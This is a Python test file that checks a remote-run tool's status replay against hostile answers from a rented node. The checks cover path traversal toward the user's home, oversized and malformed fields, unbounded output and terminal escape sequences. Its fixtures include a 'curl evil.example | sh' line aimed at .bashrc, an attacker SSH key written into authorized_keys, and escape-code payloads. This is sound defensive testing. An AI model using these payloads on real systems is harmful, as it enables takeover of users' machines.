"""The one-trip status replay treats the node as untrusted input (issue 35, finding_laptop_L1, L14, L15, L10).

A rented box may answer `rgt.py status` with any bytes: file names that climb out of the replay's temp dir or
name the user's own files, sizes no file has, sections without end, terminal escapes. Held here, with
run_status's real classifier and, for the stream, rgt.py as a real process: nothing is written outside the
replay's own temp dir, an odd answer falls back to the node's run_status.py (remote_status.Incomplete) and
never crashes, the answer is read up to a limit, and what reaches the terminal has its controls escaped.
"""
import json
import os
import resource
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import NODE, SCRIPTS

sys.path.insert(0, str(SCRIPTS))
sys.path.insert(0, str(NODE))
import rgt_core as core  # noqa: E402
import remote_status  # noqa: E402

MARK = "rgtHOSTILEMARK"
FACTS = NODE / "status_facts.sh"
FALLBACKS = (remote_status.Incomplete, ValueError, core.UsageError)   # what the caller answers by asking the node


def iso(ts):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ts))


def real_run(root: Path):
    """A finished run dir with every state file status_facts.sh sends."""
    run = root / "run"
    run.mkdir()
    now = time.time()
    (run / "run.json").write_text(json.dumps({"run_id": "r1", "cmd": ["python3", "train.py"], "cwd": str(root),
                                              "host": socket.gethostname(), "outputs": [],
                                              "created_at": iso(now - 120), "run_dir": str(run)}))
    (run / "status.json").write_text(core.dumps({
        "run_id": "r1", "state": "succeeded", "job_pid": None, "job_identity": None, "exit_code": 0,
        "started_at": iso(now - 100), "updated_at": iso(now), "attempt": 1, "resume": None}))
    (run / "exit_code").write_text("0\n")
    (run / "job.log").write_text("[rgt 10:00:00] starting: python3 train.py\nstep 3/10 loss 0.5\n")
    (run / "DEADMAN_FIRED.json").write_text(json.dumps({"reason": "job ended", "fired_at": iso(now)}))
    return run


@pytest.fixture(scope="module")
def base_answer(tmp_path_factory):
    """status_facts.sh's real answer for a real run dir: the start every hostile answer is made from."""
    run = real_run(tmp_path_factory.mktemp("base"))
    res = subprocess.run(["sh", str(FACTS), str(run), str(NODE), MARK], capture_output=True, timeout=60)
    assert res.returncode == 0 and b"@@" + MARK.encode() + b" end" in res.stdout, res.stderr
    return res.stdout, str(run)


def tree(root: Path):
    """Every path under ROOT with its type, size, mode and bytes: what 'nothing changed' is compared on."""
    seen = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(folder, name)
            info = p.lstat()
            body = p.read_bytes() if stat.S_ISREG(info.st_mode) else None
            seen[str(p.relative_to(root))] = (stat.S_IFMT(info.st_mode), info.st_mode & 0o7777, body,
                                             os.readlink(p) if p.is_symlink() else None)
    return seen


@pytest.fixture
def sandbox(tmp_path, monkeypatch):
    """A HOME with the files an attacker wants (.bashrc, .ssh) and the replay's temp dir inside the sandbox."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("# the user's own\n")
    (home / ".ssh" / "config").write_text("Host box\n")
    temp = tmp_path / "tmp" / "a" / "b"          # deep enough for ../../ climbs to land in the sandbox
    temp.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    return tmp_path, home, temp


def with_extra(raw, extra_facts=b"", extra_sections=b""):
    """RAW with more fact lines at the end of the first facts section and more sections before its end."""
    head = b"\n@@" + MARK.encode() + b" "
    end = raw.rindex(head + b"end")
    raw = raw[:end] + extra_sections + raw[end:]
    first = raw.index(head + b"facts\n") + len(head + b"facts\n")
    return raw[:first] + extra_facts + raw[first:]


def section(name, body=b""):
    return b"\n@@" + MARK.encode() + b" " + name.encode("utf-8", "surrogateescape") + b"\n" + body


def replay(raw, run_dir):
    """remote_status.classify's answer, or the fallback exception it raised; anything else fails the test."""
    try:
        return remote_status.classify(raw, MARK, run_dir)
    except FALLBACKS as exc:
        return exc


# ---------------------------------------------------------------- L1: named reproductions

def attack(home, name, body):
    """The red team's answer: a stat line and a file section for NAME, each pointing at the laptop."""
    line = ("stat %s 81a4 %d 1700000000.0 2049\n" % (name, len(body))).encode()
    return line, section("file " + name, body)


@pytest.mark.parametrize("how", ["absolute", "climb", "dir-then-file", "symlinked-mirror"])
def test_finding_laptop_L1_node_names_never_write_outside_the_replay(base_answer, sandbox, how):
    raw, run_dir = base_answer
    root, home, temp = sandbox
    before = tree(root)
    climb = "../" * 12 + str(home).lstrip("/")
    if how == "absolute":
        facts, body = attack(home, str(home / ".bashrc"), b"curl evil.example | sh\n")
    elif how == "climb":
        facts, body = attack(home, climb + "/PWNED_REL", b"x\n")
    elif how == "dir-then-file":
        keys = climb + "/.ssh2/authorized_keys"
        facts = ("stat %s/.ssh2 41c0 4096 1700000000.0 2049\n" % climb).encode()
        more, body = attack(home, keys, b"ssh-ed25519 AAAA attacker\n")
        facts += more
    else:                                        # a state file name the node may send, sent as a link target
        facts, body = attack(home, "status.json/../../../" + climb, b"x")
    answer = replay(with_extra(raw, facts, body), run_dir)
    assert isinstance(answer, remote_status.Incomplete), answer
    assert tree(root) == before                  # the temp dir's own mirror is gone again, HOME untouched


def test_finding_laptop_L1_a_name_sent_twice_or_a_folder_state_file_is_refused(base_answer, sandbox):
    raw, run_dir = base_answer
    twice = replay(with_extra(raw, b"stat exit_code 81a4 2 1700000000.0 2049\n"), run_dir)
    assert isinstance(twice, remote_status.Incomplete) and "twice" in str(twice)
    folder = replay(raw.replace(b"stat status.json 81a4", b"stat status.json 41ed"), run_dir)
    assert isinstance(folder, remote_status.Incomplete) and "folder" in str(folder)
    assert isinstance(replay(raw, run_dir), dict)   # the honest answer still replays


@pytest.mark.parametrize("size", ["4611686018427387904", "-5", "1e3", "99999999999999999999999999"])
def test_finding_laptop_L15_a_hostile_log_size_falls_back_to_the_node(base_answer, sandbox, size):
    raw, run_dir = base_answer
    head, _, rest = raw.partition(b"stat job.log 81a4 ")
    _old, _, rest = rest.partition(b" ")
    answer = replay(head + b"stat job.log 81a4 " + size.encode() + b" " + rest, run_dir)
    assert isinstance(answer, remote_status.Incomplete), answer


@pytest.mark.parametrize("mtime", ["nan", "inf", "-1", "1e300"])
def test_an_impossible_mtime_falls_back_to_the_node(base_answer, sandbox, mtime):
    raw, run_dir = base_answer
    head, _, rest = raw.partition(b"stat exit_code 81a4 2 ")
    _old, _, rest = rest.partition(b" ")
    assert isinstance(replay(head + b"stat exit_code 81a4 2 " + mtime.encode() + b" " + rest, run_dir),
                      remote_status.Incomplete)


# ---------------------------------------------------------------- L1: the property

NAMES = [".", "run.json", "status.json", "heartbeat.json", "deadman.json", "DEADMAN_FIRED.json", "exit_code",
         "job.log", "run.lock", "outputs.txt", "lease.json"]        # what status_facts.sh sends
name_strategy = st.one_of(
    st.sampled_from(NAMES),
    st.sampled_from(["/", "..", ".", "", "job.log/..", "run.lock/x", "status.json\x00", " status.json"]),
    st.builds(lambda n, depth: "../" * depth + n, st.sampled_from(["PWNED", "home/.bashrc", "home/.ssh/x"]),
              st.integers(1, 8)),
    st.builds(lambda n: "{HOME}/" + n, st.sampled_from([".bashrc", ".ssh/authorized_keys", "new/file"])),
    st.text(min_size=1, max_size=12).filter(lambda t: "\n" not in t and " " not in t),
)
mode_strategy = st.sampled_from(["81a4", "41ed", "a1ff", "11a4", "zz", "-1", "1ffffffff"])
size_strategy = st.one_of(st.integers(-10, 5000), st.sampled_from([2 ** 62, 2 ** 63, 2 ** 40 + 1, -(2 ** 62)]))
mtime_strategy = st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.integers(-5, 2 ** 40))
body_strategy = st.one_of(st.binary(max_size=64), st.sampled_from([b"\x1b]0;owned\x07\x1b[2J", b"{}", b"null",
                                                                   b'{"state": 7, "attempt": "x"}',
                                                                   b"\xff\xfe" * 10, b"\n" * 2000]),
                          st.integers(0, 3 * (1 << 20)).map(lambda n: b"A" * n))


@st.composite
def hostile_answers(draw):
    lines, sections = [], []
    for _ in range(draw(st.integers(0, 6))):
        name = draw(name_strategy)
        lines.append("stat %s %s %s %s 2049" % (name, draw(mode_strategy), draw(size_strategy),
                                                  draw(mtime_strategy)))
        if draw(st.booleans()):
            sections.append(("file " + name, draw(body_strategy)))
    for _ in range(draw(st.integers(0, 2))):
        sections.append((draw(st.sampled_from(["tail", "attempt %d" % draw(st.integers(-3, 2 ** 62)), "outputs",
                                               "gpu 0", "outputs-rc 0", "file status.json", "facts"])),
                         draw(body_strategy)))
    cut = draw(st.booleans()) and draw(st.integers(0, 20))
    return lines, sections, cut


@settings(max_examples=500, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                 HealthCheck.function_scoped_fixture])
@given(hostile_answers())
def test_finding_laptop_L1_hostile_node_answers_never_touch_the_laptop(base_answer, sandbox, hostile):
    """Generated answers (paths, sizes, modes, mtimes, encodings, escapes, duplicates, big sections, answers cut
    short): the replay returns a status or falls back; the sandbox (HOME and the temp dir's parent) is exactly
    as it was; the process's peak memory stays bounded."""
    raw, run_dir = base_answer
    root, home, temp = sandbox
    lines, sections, cut = hostile
    facts = "".join(line.replace("{HOME}", str(home)) + "\n" for line in lines).encode("utf-8", "surrogatepass")
    more = b"".join(section(title.replace("{HOME}", str(home)), body) for title, body in sections)
    answer = with_extra(raw, facts, more)
    if cut:
        answer = answer[:-cut]
    before = tree(root)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = replay(answer, run_dir)
    assert isinstance(result, (dict,) + FALLBACKS), result
    assert tree(root) == before
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak) / 1024.0   # Linux: KiB
    assert grown_mib < 64, grown_mib


# ---------------------------------------------------------------- L14: the answer is read up to a limit

def fake_ssh(tmp_path, answer_cmd):
    """An `ssh` first on PATH that answers every call with ANSWER_CMD's output (a node that never stops)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    real = shutil.which("ssh") or "false"        # `ssh -G` (the laptop reading its own config) stays real
    (bin_dir / "ssh").write_text("#!/bin/sh\ncase \" $* \" in *' -O '*) exit 0 ;; *' -G '*) exec %s \"$@\" ;; esac\n"
                                 "cat >/dev/null\nexec %s\n" % (real, answer_cmd))
    (bin_dir / "ssh").chmod(0o755)
    return dict(os.environ, PATH="%s:%s" % (bin_dir, os.environ["PATH"]), RGT_SSH_MUX="0")


def rgt_measured(tmp_path, env, *argv):
    """rgt.py ARGV as a real process -> (CompletedProcess, its peak RSS in MiB)."""
    ledger = tmp_path / "ledger.jsonl"
    ledger.write_text(json.dumps({"event": "launch", "host": "gpu-box", "box": "gpu-box", "run_id": "r1",
                                  "run_dir": "/srv/rgt/runs/r1", "state": "launched", "at": iso(time.time())})
                      + "\n")
    probe = ("import resource, subprocess, sys\n"
             "res = subprocess.run(sys.argv[1:], capture_output=True, timeout=240)\n"
             "sys.stdout.buffer.write(res.stdout[:4000]); sys.stderr.buffer.write(res.stderr[:4000])\n"
             "sys.stderr.write('\\nRSS %d\\n' % resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
             "sys.exit(res.returncode)\n")
    res = subprocess.run([sys.executable, "-c", probe, sys.executable, str(SCRIPTS / "rgt.py"),
                          "--ledger", str(ledger)] + list(argv), capture_output=True, text=True, timeout=300, env=env)
    rss = int(res.stderr.rsplit("RSS ", 1)[1].split()[0]) / 1024.0
    return res, rss


def test_finding_laptop_L14_a_status_answer_without_end_costs_bounded_memory(tmp_path):
    env = fake_ssh(tmp_path, "head -c 400000000 /dev/zero")
    res, rss = rgt_measured(tmp_path, env, "status", "gpu-box", "r1")
    assert res.returncode == 1 and "passed 8 MiB" in res.stderr, res.stderr[-600:]
    assert "Traceback" not in res.stderr
    assert rss < 200, rss                   # 772c3fc kept all 400 MB (about 1.6 GB of RSS)


def test_finding_laptop_L14_patrol_reports_each_run_unknown_when_the_answer_has_no_end(tmp_path):
    env = fake_ssh(tmp_path, "head -c 400000000 /dev/zero")
    res, rss = rgt_measured(tmp_path, env, "--json", "patrol", "gpu-box", "r1")
    assert res.returncode == 10, res.stderr[-600:]
    run = json.loads(res.stdout)["runs"][0]
    assert run["status"]["status"] == "unknown" and "passed" in run["status"]["reason"]
    assert rss < 300, rss


def test_an_answer_within_the_limit_is_read_whole(tmp_path):
    sys.path.insert(0, str(SCRIPTS))
    import fast_start
    proc = subprocess.Popen(["sh", "-c", "cat >/dev/null; head -c 3000000 /dev/zero; echo err >&2"],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out, err = fast_start.collect(proc, b"input", 60, 4 << 20)
    assert len(out) == 3000000 and err == b"err\n" and proc.returncode == 0
    proc = subprocess.Popen(["sh", "-c", "exec head -c 5000000 /dev/zero"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    with pytest.raises(fast_start.AnswerTooLarge):
        fast_start.collect(proc, b"", 60, 1 << 20)
    assert proc.returncode is not None


# ---------------------------------------------------------------- L10: one sanitizer for the terminal

def test_finding_laptop_L10_controls_are_escaped_for_the_terminal_and_kept_in_json(tmp_path):
    hostile = "loss\x1b]0;pwned\x07\x1b[2J\u202e"
    assert core.safe_text(hostile) == "loss\\u001b]0;pwned\\u0007\\u001b[2J\\u202e"
    assert core.safe_text("a\tb\nc") == "a\tb\nc" and core.safe_line("a\tb\nc") == "a\\u0009b\\u000ac"
    assert json.loads('"%s"' % core.safe_line(hostile)) == hostile      # the escape is JSON's own spelling

    run = tmp_path / "run"
    run.mkdir()
    (run / "metrics.jsonl").write_text("".join(json.dumps({"step": s, hostile: 1.0 / (1 + s)}) + "\n"
                                               for s in range(5)))
    base = [sys.executable, str(SCRIPTS / "run_forensics.py"), "list", str(run)]
    human = subprocess.run(base, capture_output=True, text=True, timeout=120)
    assert human.returncode == 0 and "\x1b" not in human.stdout and "\\u001b]0;pwned" in human.stdout, human
    raw = subprocess.run(base + ["--json"], capture_output=True, text=True, timeout=120)
    assert hostile in json.loads(raw.stdout)["runs"][0]["metrics"]      # --json keeps the raw name
